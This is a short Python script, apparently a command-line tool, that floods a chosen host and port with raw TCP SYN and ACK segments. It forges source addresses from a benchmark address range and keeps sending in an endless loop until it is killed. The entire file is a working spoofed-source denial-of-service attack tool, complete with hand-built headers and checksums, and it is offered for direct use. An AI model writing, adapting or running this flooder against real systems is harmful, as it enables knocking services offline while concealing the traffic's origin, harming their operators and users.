"""Sends TCP segments from addresses that nobody has until it is killed: flood.py HOST PORT. Half are SYNs, half ACKs."""

import random
import socket
import struct
import sys
import time

SYN, ACK = 0x02, 0x10


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def forged(flags, host, port):
    # RFC 2544's addresses for benchmarks.
    source = bytes([198, 18, random.randrange(256), random.randrange(1, 255)])
    start = struct.pack("!HHIIBB", random.randrange(1024, 65536), port, random.getrandbits(32), random.getrandbits(32), 0x50, flags)
    end = struct.pack("!HHH", 0xFFFF, 0, 0)
    pseudo = source + host + struct.pack("!HH", socket.IPPROTO_TCP, 20)
    end = struct.pack("!HHH", 0xFFFF, checksum(pseudo + start + end), 0)
    # The kernel fills in the length and the header's checksum.
    return struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0) + source + host + start + end


host, port = socket.inet_aton(sys.argv[1]), int(sys.argv[2])
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
while True:
    for count in range(1500):
        try:
            raw.sendto(forged(ACK if count % 2 else SYN, host, port), (sys.argv[1], 0))
        except OSError:
            # A full queue is what a flood meets.
            pass
    # So that others get a turn on a small machine.
    time.sleep(0.02)
